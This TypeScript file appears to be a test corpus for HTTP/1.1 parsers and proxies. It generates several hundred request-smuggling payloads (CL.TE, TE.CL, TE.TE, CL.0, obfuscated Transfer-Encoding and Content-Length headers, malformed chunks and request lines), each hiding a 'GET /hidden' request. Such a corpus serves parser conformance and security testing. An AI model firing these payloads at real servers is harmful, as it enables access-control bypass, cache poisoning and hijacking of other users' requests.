/**
 * Requests that parsers read differently, by the class of the trick. Each is one latin1 text for one connection; what it hides is a
 * `GET /hidden`, which nobody may take for a request of its own unless the proxy does. After PortSwigger's and Kettle's classes
 * (CL.TE, TE.CL, TE.TE, CL.0, 0.CL), the advisories of nginx, HAProxy, Node.js, Go and Python, and RFC 9112 §2–7.
 */
export interface Trick {
  readonly name: string
  readonly text: string
}

const hidden = 'GET /hidden HTTP/1.1\r\nHost: app\r\n\r\n'
const chunkedHidden = `0\r\n\r\n${hidden}`
const message = (start: string, lines: readonly string[], body = ''): string => [start, ...lines, '', body].join('\r\n')
const post = (lines: readonly string[], body: string): string => message('POST /x HTTP/1.1', ['Host: app', ...lines], body)
const named = (kind: string, texts: readonly string[]): readonly Trick[] => texts.map((text, index) => ({ name: `${kind} #${index + 1}`, text }))

const codings = [
  'chunked', 'Chunked', 'CHUNKED', ' chunked', '\tchunked', '\t \tchunked \t', 'xchunked', 'chunkedx', 'chunk', 'chunked, identity', 'identity, chunked', 'identity', 'gzip, chunked',
  'chunked, gzip', 'chunked, chunked', 'chunked,', ',chunked', ', chunked', '"chunked"', "'chunked'", 'chunked;a=b', 'chunked; q=0.5', 'chunked chunked', '\x0bchunked', '\x0cchunked',
  'chunked\x0b', 'chunked\0', '\0chunked', 'chun\0ked', '\xa0chunked', 'chunked\xa0', '\x85chunked', 'chun\rked', '\rchunked', 'chunked\r', 'chunked\r\n ', '\r\n chunked', '\r\n\tchunked', '\nchunked',
  'chunked\n', 'cow', '', ' ', 'trailers', 'chunked, cow', 'cow, chunked', 'deflate', 'chunked\x01', '\x7fchunked', 'c\xc4\xb1hunked', 'chun\xe2\x84\xaaed', '%63hunked',
]
const codingNames = [
  'Transfer-Encoding ', ' Transfer-Encoding', '\tTransfer-Encoding', 'Transfer-Encoding\t', 'transfer_encoding', 'Transfer Encoding', 'Transfer-Encoding\0', '\0Transfer-Encoding', 'Transfer\xad-Encoding',
  'X: y\nTransfer-Encoding', 'X: y\rTransfer-Encoding', 'X:\r\n Transfer-Encoding', 'tRANSFER-ENCODING', 'Transfer-Encoding:', 'X:Transfer-Encoding', 'Transfer-Encod\x0bing', ':Transfer-Encoding', '"Transfer-Encoding"',
  'Transfer\xe2\x80\x93Encoding', 'Transfer-\r\n Encoding', 'X-Transfer-Encoding', 'Transfer-Encoding\r',
]
const lengths = [
  '0', '5', '+5', '-5', '-0', '0x5', '05', '0000000005', '00000000000000000005', '5 ', ' 5', '\t5', '5\t', '5, 5', '5,5', '5 5', '5,', ',5', '5;', '5.0', '5e0', '0b101', '0o5', '5\0', '\x005', '5\x0b', '\x0b5', '5\r',
  '\r\n 5', '5\r\n ', '\xd9\xa5', '\xb2', '"5"', '1_0', '', ' ', 'five', 'NaN', 'Infinity', '9007199254740993', '18446744073709551621', '4294967301', '99999999999999999999999999', '5#', '5\n', '1e1', '\xa05', '5\xa0',
]
const lengthPairs: readonly (readonly [string, string])[] = [['5', '0'], ['0', '5'], ['5', '5'], ['5', '05'], ['5', '6'], ['5', ''], ['', '5'], ['5', '+5'], ['x', '5']]
const lengthNames = ['Content-Length ', ' Content-Length', 'Content-Length\t', 'Content_Length', 'Content Length', 'X: y\nContent-Length', 'X: y\rContent-Length', 'content-length', 'Content-Length\0', ':Content-Length', 'Content-Length:', 'Content-Lengt\xe8']

const chunks = [
  '5\r\nhello\r\n0\r\n\r\n', '5\nhello\r\n0\r\n\r\n', '5\rhello\r\n0\r\n\r\n', '5\r\nhello\n0\r\n\r\n', '5\r\nhello\r0\r\n\r\n', '5\r\nhello0\r\n\r\n', '5\r\nhellox\r\n0\r\n\r\n', '5\r\nhell\r\n0\r\n\r\n', '+5\r\nhello\r\n0\r\n\r\n', '-5\r\nhello\r\n0\r\n\r\n',
  '0x5\r\nhello\r\n0\r\n\r\n', ' 5\r\nhello\r\n0\r\n\r\n', '5 \r\nhello\r\n0\r\n\r\n', '5\t\r\nhello\r\n0\r\n\r\n', '05\r\nhello\r\n0\r\n\r\n', '00000000005\r\nhello\r\n0\r\n\r\n', '000000000000000000005\r\nhello\r\n0\r\n\r\n', '1_0\r\nhello\r\n0\r\n\r\n',
  '5_\r\nhello\r\n0\r\n\r\n', 'g\r\nhello\r\n0\r\n\r\n', '\r\nhello\r\n0\r\n\r\n', '5;\r\nhello\r\n0\r\n\r\n', '5;a\r\nhello\r\n0\r\n\r\n', '5;a=b\r\nhello\r\n0\r\n\r\n', '5;a="b\r\nhello\r\n0\r\n\r\n', '5;a="b\r\n"\r\nhello\r\n0\r\n\r\n', '5;a\nhello\r\n0\r\n\r\n', '5;\nhello\r\n0\r\n\r\n',
  '5;a\rb\r\nhello\r\n0\r\n\r\n', '5;\0\r\nhello\r\n0\r\n\r\n', '5 ;a\r\nhello\r\n0\r\n\r\n', '5\r\r\nhello\r\n0\r\n\r\n', '5\n\r\nhello\r\n0\r\n\r\n', 'ffffffffffffffff5\r\nhello\r\n0\r\n\r\n', '10000000000000005\r\nhello\r\n0\r\n\r\n', 'fffffffffffff\r\nhello\r\n0\r\n\r\n',
  '5\r\nhello\r\n00\r\n\r\n', '5\r\nhello\r\n0\n\n', '5\r\nhello\r\n0\r\n\n', '5\r\nhello\r\n0\r\n\r', '5\r\nhello\r\n0;a\r\n\r\n', '5\r\nhello\r\n0 \r\n\r\n', '5\r\nhello\r\n-0\r\n\r\n', '5\r\nhello\r\n0x0\r\n\r\n', '5\r\nhello\r\n\r\n0\r\n\r\n', '5\r\nhello\r\n0\r\nX: y\r\n\r\n', '5\r\nhello\r\n0\r\nX: y\n\r\n',
  '5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n', '5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n', '5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n', '5\r\nhello\r\n0\r\nHost: evil\r\nCookie: a=b\r\nAuthorization: x\r\n\r\n', '5\r\nhello\r\n0\r\nGET /hidden HTTP/1.1\r\nHost: app\r\n\r\n', '5\r\nhello\r\n0\r\n X: y\r\n\r\n',
  '5\r\nhello\r\n0\r\n: y\r\n\r\n', '5\r\nhello\r\n0\r\nX : y\r\n\r\n', '5\r\nhello\r\n0\r\nX: \0\r\n\r\n', '2\r\nhe\r\n3\r\nllo\r\n0\r\n\r\n', '5;ext=hidden\r\nhello\r\n0;\r\n\r\n', 'A\r\n0123456789\r\n0\r\n\r\n', 'a\r\n0123456789\r\n0\r\n\r\n', '5\r\nhello\r\n0\r\n\r\n0\r\n\r\n', 'xx',
]

const startLines = [
  'GET /x HTTP/1.1', 'GET  /x HTTP/1.1', 'GET /x  HTTP/1.1', ' GET /x HTTP/1.1', 'GET /x HTTP/1.1 ', 'GET\t/x\tHTTP/1.1', 'GET /x\x0bHTTP/1.1', 'GET /x\rHTTP/1.1', 'GET /x HTTP/1.1\r', 'GET /x y HTTP/1.1', 'GET /x', 'GET', '', 'GET /x HTTP/0.9', 'GET /x HTTP/1.0',
  'GET /x HTTP/1.2', 'GET /x HTTP/1.9', 'GET /x HTTP/2.0', 'GET /x HTTP/3.0', 'GET /x HTTP/1.10', 'GET /x HTTP/01.1', 'GET /x HTTP/1.1.1', 'GET /x HTTP/1,1', 'GET /x HTTP/+1.1', 'GET /x http/1.1', 'GET /x HTTPS/1.1', 'GET /x HTTP /1.1', 'GET /x HTTP/1. 1', 'GET /x ICY/1.1', 'GET /x HTTP/1.\xb9',
  'get /x HTTP/1.1', 'G:T /x HTTP/1.1', 'GE(T /x HTTP/1.1', 'G\xc9T /x HTTP/1.1', 'GET\0 /x HTTP/1.1', '"GET" /x HTTP/1.1', 'HELLO /x HTTP/1.1', 'CONNECT app:80 HTTP/1.1', 'CONNECT /x HTTP/1.1', 'TRACE /x HTTP/1.1', 'PRI * HTTP/2.0', 'OPTIONS * HTTP/1.1', 'GET * HTTP/1.1',
  'GET x HTTP/1.1', 'GET app:80 HTTP/1.1', 'GET /x#y HTTP/1.1', 'GET /x\0 HTTP/1.1', 'GET /x\x7f HTTP/1.1', 'GET /\xff HTTP/1.1', 'GET /x%00 HTTP/1.1', 'GET /%2e%2e/x HTTP/1.1', 'GET //x HTTP/1.1', 'GET /x/../y HTTP/1.1', 'GET /x?a=b c HTTP/1.1', 'GET /x%0d%0aX:y HTTP/1.1', 'GET /\\x HTTP/1.1', 'GET ?x HTTP/1.1',
  'GET http://app/x HTTP/1.1', 'GET http://evil/x HTTP/1.1', 'GET HTTP://app/x HTTP/1.1', 'GET https://app/x HTTP/1.1', 'GET http://app HTTP/1.1', 'GET http:///x HTTP/1.1', 'GET http://u:p@app/x HTTP/1.1', 'GET http://app:99999999/x HTTP/1.1', 'GET http://app\x00/x HTTP/1.1', 'GET http:/x HTTP/1.1', 'GET ftp://app/x HTTP/1.1', 'GET //app/x HTTP/1.1', 'GET http://app?x HTTP/1.1', 'GET http://[::1]/x HTTP/1.1', 'GET http://app/x#y HTTP/1.1',
]
const hosts: readonly (readonly string[])[] = [
  [], ['Host:'], ['Host: app', 'Host: app'], ['Host: app', 'Host: evil'], ['Host: app, evil'], ['Host: app evil'], ['Host: app/evil'], ['Host: u@app'], ['Host: app:80'], ['Host: app:'], ['Host: app:x'], ['Host: app:80:80'], ['Host: [::1]'], ['Host: [::1]:80'], ['Host: [::1'], ['Host: \xe9'], ['Host: app\0'], ['Host : app'], [' Host: app'], ['Host: app', ' Host: evil'],
  ['Host: app#evil'], ['Host: app?evil'], ['Host: app\\evil'], ['Host: "app"'], ['host: app', 'HOST: evil'], ['Host:\tapp'], ['Host: app\t'], ['X-Host: evil', 'Host: app'], ['Host: app', 'X-Forwarded-Host: evil'], ['Host\0: app'], ['Host:\r\n app'],
]
const connections = [
  'Connection: close', 'Connection: keep-alive', 'Connection: content-length', 'Connection: Content-Length, close', 'Connection: transfer-encoding', 'Connection: host', 'Connection: close, keep-alive', 'Connection: x\0', 'Connection: upgrade', 'Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c', 'Connection: Upgrade\r\nUpgrade: websocket', 'Upgrade: websocket', 'Proxy-Connection: close', 'Keep-Alive: timeout=1', 'Connection: cookie\r\nCookie: a=b', 'Connection: expect\r\nExpect: 100-continue', 'Expect: 100-continue', 'Expect: 100-Continue', 'Expect: 100-continue, 100-continue', 'Expect: y 100-continue', 'Expect: 100-continue\r\nExpect: 100-continue', 'Expect: 200-ok', 'Expect:', 'X: y\x01', 'X: \x1b[0m', 'X', 'X\r\n y', '(X): y', 'X: y\r', ': y',
]

/** Each class of trick with its texts. */
export const tricks: readonly Trick[] = [
  ...named('TE without CL', codings.map((coding) => post([`Transfer-Encoding: ${coding}`], chunkedHidden))),
  ...named('TE.CL', codings.map((coding) => post(['Content-Length: 3', `Transfer-Encoding: ${coding}`], `0\r\n\r\n${hidden}`))),
  ...named('CL.TE', codings.map((coding) => post([`Content-Length: ${chunkedHidden.length}`, `Transfer-Encoding: ${coding}`], chunkedHidden))),
  ...named('TE.TE', codings.map((coding) => post(['Transfer-Encoding: chunked', `Transfer-Encoding: ${coding}`], chunkedHidden))),
  ...named('TE under another name', codingNames.flatMap((name) => [post([`${name}: chunked`], chunkedHidden), post([`Content-Length: ${chunkedHidden.length}`, `${name}: chunked`], chunkedHidden)])),
  ...named('TE in HTTP/1.0', ['chunked', 'gzip', 'identity'].flatMap((coding) => [message('POST /x HTTP/1.0', ['Host: app', `Transfer-Encoding: ${coding}`], chunkedHidden), message('POST /x HTTP/1.0', ['Connection: keep-alive', 'Content-Length: 5', `Transfer-Encoding: ${coding}`], chunkedHidden)])),
  ...named('CL', lengths.flatMap((length) => [post([`Content-Length: ${length}`], `hello${hidden}`), message('GET /x HTTP/1.1', ['Host: app', `Content-Length: ${length}`], hidden)])),
  ...named('CL.CL', lengthPairs.map(([one, other]) => post([`Content-Length: ${one}`, `Content-Length: ${other}`], `hello${hidden}`))),
  ...named('CL under another name', lengthNames.flatMap((name) => [post([`${name}: 5`], `hello${hidden}`), post(['Content-Length: 0', `${name}: ${hidden.length}`], hidden)])),
  ...named('CL.0 and 0.CL', ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PATCH', 'PUT', 'POST', 'HELLO'].flatMap((method) => [message(`${method} /x HTTP/1.1`, ['Host: app', `Content-Length: ${hidden.length}`], hidden), message(`${method} /x HTTP/1.1`, ['Host: app', 'Transfer-Encoding: chunked'], `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`), message(`${method} /x HTTP/1.1`, ['Host: app'], hidden)])),
  ...named('chunks', chunks.map((body) => post(['Transfer-Encoding: chunked'], `${body}${hidden}`))),
  ...named('request line', startLines.map((start) => message(start, ['Host: app'], hidden))),
  ...named('HTTP/0.9', ['GET /x\r\n', 'GET /x\r\n\r\n', 'GET /x\n\n', `GET /x\r\n${hidden}`]),
  ...named('Host', hosts.flatMap((lines) => [message('GET /x HTTP/1.1', lines, hidden), message('GET http://evil/x HTTP/1.1', lines, hidden), message('GET /x HTTP/1.0', [...lines, 'Connection: keep-alive'], hidden)])),
  ...named('Connection, Expect and odd fields', connections.flatMap((line) => [message('GET /x HTTP/1.1', ['Host: app', line], hidden), post([line, 'Content-Length: 5'], `hello${hidden}`), post([line, 'Transfer-Encoding: chunked'], `5\r\nhello\r\n${chunkedHidden}`)])),
  ...named('line ends', ['GET /x HTTP/1.1\nHost: app\n\n', 'GET /x HTTP/1.1\rHost: app\r\r', 'GET /x HTTP/1.1\r\nHost: app\n\r\n', 'GET /x HTTP/1.1\r\nHost: app\r\n\n', 'GET /x HTTP/1.1\r\nHost: app\r\n\r', 'GET /x HTTP/1.1\nHost: app\r\n\r\n', 'GET /x HTTP/1.1\r\n\r\nHost: app\r\n\r\n', '\nGET /x HTTP/1.1\r\nHost: app\r\n\r\n', '\rGET /x HTTP/1.1\r\nHost: app\r\n\r\n', 'GET /x HTTP/1.1\r\nHost: app\r\nX: a\r\r\n\r\n'].map((head) => head + hidden)),
  ...named('empty lines first', ['\r\n', '\r\n\r\n', '\r\n\r\n\r\n', ' \r\n', '\n'].map((lines) => lines + hidden)),
  ...named('pipelining', [hidden, hidden.repeat(5), post(['Content-Length: 5'], 'hello') + hidden, post(['Transfer-Encoding: chunked'], '5\r\nhello\r\n0\r\n\r\n') + hidden, `${hidden}\r\n${hidden}`, message('GET /x HTTP/1.1', ['Host: app', 'Connection: close'], hidden), message('GET /x HTTP/1.0', [], hidden), `${hidden}GARBAGE`, `HEAD /x HTTP/1.1\r\nHost: app\r\n\r\n${hidden}`]),
  ...named('incomplete', ['GET', 'GET /x HTTP/1.1\r\nHost', post(['Content-Length: 5'], 'hel'), post(['Transfer-Encoding: chunked'], '5\r\nhel'), post(['Transfer-Encoding: chunked'], '5\r\nhello\r\n0\r\nX: y\r\n'), post(['Content-Length: 1000'], hidden)]),
]
